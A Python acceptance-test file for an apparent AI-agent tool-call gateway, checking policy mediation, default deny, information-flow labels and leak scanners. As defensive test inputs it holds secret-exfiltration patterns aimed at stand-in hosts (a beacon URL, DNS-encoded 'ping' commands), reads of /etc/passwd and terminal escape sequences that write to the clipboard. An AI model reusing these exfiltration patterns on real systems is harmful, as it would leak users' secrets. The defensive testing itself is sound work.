"""Acceptance gate: one test and one printed pass/fail line per criterion.

Run with ``pytest -s tests/test_acceptance.py`` to see the lines as they
print; under plain ``pytest -v`` each criterion still shows as a test result.
"""

import itertools
import random
import string
import time
from dataclasses import replace as dc_replace

from sentinel_gate.gateway import (
    Gateway,
    Mode,
    NotAuthorizedError,
    SessionContext,
)
from sentinel_gate.ifc import SecretRegistry, join, join_all, propagate_graph
from sentinel_gate.model import (
    Arg,
    EMPTY_LABELS,
    Label,
    LabelKind,
    LabelSet,
    Sensitivity,
    TrustLevel,
    Verdict,
)
from sentinel_gate.policy import (
    DomainIn,
    Effect,
    Matcher,
    PathPrefix,
    Policy,
    PolicyMeta,
    PolicyRule,
    PortRange,
    PrivilegeEscalationError,
    evaluate,
    merge_policies,
    parse_policy,
    serialize_policy,
)
from sentinel_gate.sandbox import World
from sentinel_gate.scanners import FindingKind, scan_command, scan_url, strip_ansi
from sentinel_gate.scenario import load_builtin_scenarios, run_scenario
from sentinel_gate.model import ToolCall

SCENARIOS = load_builtin_scenarios()
ATTACKS = [s for s in SCENARIOS if s.kind == "attack"]
BENIGN = [s for s in SCENARIOS if s.kind == "benign"]


def report(name: str, ok: bool, detail: str) -> None:
    print(f"[{'PASS' if ok else 'FAIL'}] {name}: {detail}", flush=True)
    assert ok, f"{name}: {detail}"


def mk(tool, args=None, *, trust=TrustLevel.USER, task="task-acc", call_id=None):
    wrapped = {k: (v if isinstance(v, Arg) else Arg(v)) for k, v in (args or {}).items()}
    return ToolCall(
        call_id=call_id or f"acc-{id(wrapped)}-{tool}",
        tool=tool,
        args=wrapped,
        origin_trust=trust,
        task_id=task,
    )


# -- attack blocking ---------------------------------------------------------

def test_attack_blocking_monitored():
    start = time.perf_counter()
    bad = []
    for sc in ATTACKS:
        rep = run_scenario(sc, Mode.MONITORED)
        if not rep.block_matches_expectation or rep.exfil_observed or rep.expect_failures:
            bad.append((sc.scenario_id, rep.blocked_step, rep.blocked_reason))
    elapsed = time.perf_counter() - start
    ok = not bad and elapsed < 10.0
    report(
        "attack-blocking",
        ok,
        f"{len(ATTACKS) - len(bad)}/{len(ATTACKS)} blocked at expected step+reason, "
        f"exfil_observed=false, {elapsed:.2f}s (<10s)" + (f"; failures: {bad}" if bad else ""),
    )


def test_attack_validity_permissive():
    leaked = [sc.scenario_id for sc in ATTACKS if run_scenario(sc, Mode.PERMISSIVE).exfil_observed]
    ok = len(leaked) == len(ATTACKS)
    report(
        "attack-validity",
        ok,
        f"{len(leaked)}/{len(ATTACKS)} fixtures exfiltrate in permissive mode",
    )


def test_utility_preservation_benign():
    bad = []
    for sc in BENIGN:
        rep = run_scenario(sc, Mode.MONITORED)
        if rep.denials or rep.blocked_step is not None or rep.expect_failures:
            bad.append(sc.scenario_id)
    report(
        "utility-preservation",
        not bad,
        f"{len(BENIGN) - len(bad)}/{len(BENIGN)} benign twins complete with 0 denials"
        + (f"; failures: {bad}" if bad else ""),
    )


# -- complete mediation ------------------------------------------------------

MEDIATION_POLICY = parse_policy(
    'allow fs.read path_prefix "/workspace"\n'
    "deny shell.exec\n"
    "require-approval memory.store\n"
    'allow net.http_get domain_in { "ok.example" }\n'
    "allow clipboard.read\n"
    "allow terminal.print\n"
    "allow expose_port port_range 3000..3999\n"
)


def _instrumented_gateway(policy):
    session = SessionContext(
        "acceptance", policy, World(), Mode.MONITORED, approved_domains={"ok.example"}
    )
    gw = Gateway(session)
    gw.register_default_tools()
    unauthorized = []

    def wrap(handler):
        def inner(world, call):
            allowed = any(
                r.call.call_id == call.call_id and r.decision.verdict is Verdict.ALLOW
                for r in session.audit
            )
            if not allowed:
                unauthorized.append(call.call_id)
            inner.count += 1
            return handler(world, call)

        inner.count = 0
        return inner

    wrapped = {}
    for name, td in gw.tools.items():
        new_handler = wrap(td.handler)
        gw.tools[name] = dc_replace(td, handler=new_handler)
        wrapped[name] = new_handler
    return session, gw, unauthorized, wrapped


def _random_call(rng, i):
    tool = rng.choice(
        ["fs.read", "fs.write", "shell.exec", "memory.store", "net.http_get",
         "clipboard.read", "terminal.print", "expose_port", "policy.merge"]
    )
    if tool == "fs.read":
        args = {"path": rng.choice(["/workspace/a.txt", "/workspace/b.txt", "/etc/passwd"])}
    elif tool == "fs.write":
        args = {"path": rng.choice(["/workspace/out.txt", "/agent/config"]), "content": f"c{i}"}
    elif tool == "shell.exec":
        args = {"command": rng.choice(["ls -la", "echo hi"])}
    elif tool == "memory.store":
        args = {"key": f"k{i}", "content": f"v{i}"}
    elif tool == "net.http_get":
        args = {"url": rng.choice(["https://ok.example/page", "https://evil.example/page"])}
    elif tool == "terminal.print":
        args = {"text": f"status line {i}"}
    elif tool == "expose_port":
        args = {"port": rng.randint(2000, 5000)}
    elif tool == "policy.merge":
        args = {"delta": "deny shell.exec\n"}
    else:
        args = {}
    return mk(tool, args, call_id=f"acc-call-{i}")


def test_complete_mediation():
    rng = random.Random(4242)
    session, gw, unauthorized, _ = _instrumented_gateway(MEDIATION_POLICY)
    session.world.fs.write("/workspace/a.txt", "alpha")
    session.world.fs.write("/workspace/b.txt", "beta")
    n = 1000
    for i in range(n):
        gw.mediate(_random_call(rng, i))
    denied = next(r for r in session.audit if r.decision.verdict is Verdict.DENY)
    try:
        gw.execute(denied.call)
        bypassed = True
    except NotAuthorizedError:
        bypassed = False
    ok = len(session.audit) == n and not unauthorized and not bypassed
    report(
        "complete-mediation",
        ok,
        f"{n} randomized calls -> {len(session.audit)} audit records, "
        f"{len(unauthorized)} executor invocations without prior Allow, "
        f"direct-execute bypass rejected={not bypassed}",
    )


def test_default_deny():
    session, gw, _, wrapped = _instrumented_gateway(parse_policy(""))
    verdicts = []
    n = 600
    for i in range(n):
        tool = ["fs.read", "fs.write", "shell.exec", "memory.store", "memory.retrieve",
                "net.http_get", "net.http_post", "clipboard.read", "clipboard.write",
                "terminal.print", "expose_port", "browser.open", "ui.render",
                "gitlab.comment", "browser.fill"][i % 15]
        args = {
            "path": f"/data/f{i}.txt", "content": f"c{i}", "command": f"echo {i}",
            "key": f"k{i}", "value": f"v{i}", "url": f"https://host{i}.example/",
            "text": f"t{i}", "port": 1000 + i, "markdown": f"m{i}", "body": f"b{i}",
        }
        verdicts.append(gw.mediate(mk(tool, args, call_id=f"dd-{i}")).verdict)
    denies = sum(1 for v in verdicts if v is Verdict.DENY)
    executed = sum(h.count for h in wrapped.values())
    ok = denies == n and executed == 0
    report(
        "default-deny",
        ok,
        f"empty policy denied {denies}/{n} distinct calls, {executed} handler invocations",
    )


# -- merge monotonicity ------------------------------------------------------

def _small_universe():
    matchers = [
        Matcher("fs.read"),
        Matcher("fs.read", (PathPrefix("/a"),)),
        Matcher("net.http_get"),
        Matcher("net.http_get", (DomainIn(frozenset({"ok.example"})),)),
        Matcher("shell.exec"),
        Matcher("expose_port", (PortRange(3000, 3999),)),
    ]
    calls = [
        mk("fs.read", {"path": "/a/x"}, call_id="u1"),
        mk("fs.read", {"path": "/b/y"}, call_id="u2"),
        mk("net.http_get", {"url": "https://ok.example/"}, call_id="u3"),
        mk("net.http_get", {"url": "https://evil.example/"}, call_id="u4"),
        mk("shell.exec", {"command": "ls"}, call_id="u5"),
        mk("expose_port", {"port": 3500}, call_id="u6"),
        mk("expose_port", {"port": 80}, call_id="u7"),
        mk("clipboard.read", call_id="u8"),
    ]
    return matchers, calls


def _allowed_set(policy, calls):
    return {
        c.call_id for c in calls if evaluate(policy, c).verdict is Verdict.ALLOW
    }


def test_merge_monotonicity():
    matchers, calls = _small_universe()
    bases = []
    for k in (0, 1, 2):
        for combo in itertools.combinations(range(len(matchers)), k):
            rules = tuple(
                PolicyRule(rule_id=f"b{j}", effect=Effect.ALLOW, matcher=matchers[j])
                for j in combo
            )
            bases.append(Policy(rules=rules, metadata=PolicyMeta()))
    deltas = [
        (effect, Policy(rules=(PolicyRule(rule_id="d", effect=effect, matcher=m),)))
        for effect in Effect
        for m in matchers
    ]
    checked = 0
    escalations = 0
    enlargements = []
    missed_escalations = []
    for base in bases:
        before = _allowed_set(base, calls)
        for effect, delta in deltas:
            checked += 1
            if effect is not Effect.DENY:
                try:
                    merge_policies(base, delta, TrustLevel.EXTERNAL)
                    missed_escalations.append((base, effect))
                except PrivilegeEscalationError:
                    escalations += 1
                continue
            merged = merge_policies(base, delta, TrustLevel.EXTERNAL)
            after = _allowed_set(merged, calls)
            if not after <= before:
                enlargements.append((base, delta, after - before))
    ok = not enlargements and not missed_escalations
    report(
        "merge-monotonicity",
        ok,
        f"{checked} base x delta combinations over {len(bases)} bases: "
        f"0 enlargements, {escalations} widening deltas rejected with privilege-escalation",
    )


# -- IFC oracle equivalence --------------------------------------------------

_LABEL_POOL = [
    Label(kind, source, sens)
    for kind in LabelKind
    for source in ("s1", "s2")
    for sens in Sensitivity
]


def _brute_force(initial, edges):
    nodes = set(initial)
    for u, v in edges:
        nodes.update((u, v))
    reaches = {n: {n} for n in nodes}
    changed = True
    while changed:
        changed = False
        for u, v in edges:
            if not reaches[u] <= reaches[v]:
                reaches[v] |= reaches[u]
                changed = True
    return {n: join_all(initial.get(m, EMPTY_LABELS) for m in reaches[n]) for n in nodes}


def test_ifc_oracle_equivalence():
    rng = random.Random(1337)
    mismatches = 0
    for _ in range(1000):
        n = rng.randint(1, 8)
        names = [f"n{i}" for i in range(n)]
        initial = {
            name: LabelSet(rng.sample(_LABEL_POOL, rng.randint(0, 4))) for name in names
        }
        edges = [
            (names[i], names[j])
            for i in range(n)
            for j in range(i + 1, n)
            if rng.random() < 0.35
        ]
        if propagate_graph(initial, edges) != _brute_force(initial, edges):
            mismatches += 1
    law_failures = 0
    for _ in range(10_000):
        a = LabelSet(rng.sample(_LABEL_POOL, rng.randint(0, 5)))
        b = LabelSet(rng.sample(_LABEL_POOL, rng.randint(0, 5)))
        c = LabelSet(rng.sample(_LABEL_POOL, rng.randint(0, 5)))
        if join(a, b) != join(b, a):
            law_failures += 1
        if join(join(a, b), c) != join(a, join(b, c)):
            law_failures += 1
        if join(a, a) != a or join(a, EMPTY_LABELS) != a:
            law_failures += 1
    ok = mismatches == 0 and law_failures == 0
    report(
        "ifc-oracle-equivalence",
        ok,
        f"1000 random DAGs (<=8 nodes) match brute force exactly ({mismatches} mismatches); "
        f"lattice laws hold over 10000 random cases ({law_failures} failures)",
    )


# -- scanner soundness -------------------------------------------------------

def test_scanner_soundness_secrets():
    rng = random.Random(2024)
    alphabet = string.ascii_letters + string.digits + "/+_-"
    registry = SecretRegistry()
    sids = []
    seen = set()
    while len(sids) < 100:
        value = "".join(rng.choice(alphabet) for _ in range(rng.randint(10, 24)))
        if value in seen:
            continue
        seen.add(value)
        sid = f"sec{len(sids)}"
        registry.register_secret(value, sid)
        sids.append(sid)
    url_hits = hostname_hits = total = 0
    for sid in sids:
        for encoding, encoded in registry.variants(sid).items():
            total += 1
            url = f"https://sink.example/beacon?d={encoded}"
            found = any(
                f.kind is FindingKind.ENCODED_SECRET and f.payload == f"{sid}:{encoding}"
                for f in scan_url(url, registry=registry)
            )
            url_hits += found
            # DNS case-folds hostnames, so case-sensitive encodings are caught
            # by the command-text pass rather than the resolved-host pass.
            host_findings = scan_command(
                ["ping", f"{encoded}.sink.example"], registry=registry
            )
            found_host = any(
                (f.kind is FindingKind.DNS_EXFIL and f"secret {sid} " in f.message)
                or (f.kind is FindingKind.ENCODED_SECRET and f.payload.startswith(f"{sid}:"))
                for f in host_findings
            )
            hostname_hits += found_host
    ok = url_hits == total and hostname_hits == total
    report(
        "scanner-soundness-secrets",
        ok,
        f"100 secrets x 4 encodings: {url_hits}/{total} detected in URLs, "
        f"{hostname_hits}/{total} detected in hostnames",
    )


def test_scanner_soundness_ansi():
    rng = random.Random(31415)
    fragments = [
        "plain words ", "tab\t", "line\n", "café ", "\x1b[31m", "\x1b[0m",
        "\x1b[2J", "\x1b[", "\x1b", "\x9b31m", "\x9b", "\x9d0;t\x07",
        "\x1b]52;c;aGVsbG8=\x07", "\x1b]52;c;", "\x1b]0;title\x07",
        "\x1bP+q\x1b\\", "\x1b\\", "\x1bM", "\x07", "0;c;!!!",
    ]
    dirty = 0
    for _ in range(10_000):
        text = "".join(rng.choice(fragments) for _ in range(rng.randint(1, 6)))
        clean, _ = strip_ansi(text)
        if "\x1b" in clean or "\x9b" in clean or "\x9d" in clean:
            dirty += 1
    report(
        "scanner-soundness-ansi",
        dirty == 0,
        f"strip_ansi left 0 escape bytes across 10000 fuzzed strings ({dirty} dirty)",
    )


# -- parser round-trip -------------------------------------------------------

def test_parser_round_trip():
    corpus = [
        "",
        "allow fs.read\n",
        "deny **\n",
        'allow fs.read path_prefix "/workspace/src"\n',
        '# policy: review 2\nallow net.http_get domain_in { "gitlab.example" }\ndeny net.**\n',
        "allow expose_port port_range 1024..9999\n",
        "require-approval memory.store\n",
        'allow gitlab.comment issue_id 7 scope "task-abc"\n',
        "allow shell.exec expires 3\n",
        'allow terminal.print clearance {ToolOutput "*" Public}\n',
        'deny fs.write path_prefix "/agent" id "tamper-wall"\n',
        'allow browser.fill value_equals field "q" domain_in { "search.example" }\n',
    ]
    corpus += [sc.seed.get("policy", "") for sc in SCENARIOS]
    failures = []
    for i, src in enumerate(corpus):
        p = parse_policy(src)
        if parse_policy(serialize_policy(p)) != p:
            failures.append(i)
    ok = not failures and len(corpus) >= 20
    report(
        "parser-round-trip",
        ok,
        f"parse-serialize fixpoint holds on {len(corpus)}-policy corpus "
        f"({len(failures)} failures)",
    )


# -- determinism -------------------------------------------------------------

def test_determinism():
    unstable = []
    for sc in SCENARIOS:
        digests = {run_scenario(sc, Mode.MONITORED).audit_digest for _ in range(2)}
        if len(digests) != 1:
            unstable.append(sc.scenario_id)
    report(
        "determinism",
        not unstable,
        f"{len(SCENARIOS) - len(unstable)}/{len(SCENARIOS)} fixtures give identical "
        f"audit_digest across repeated monitored runs",
    )
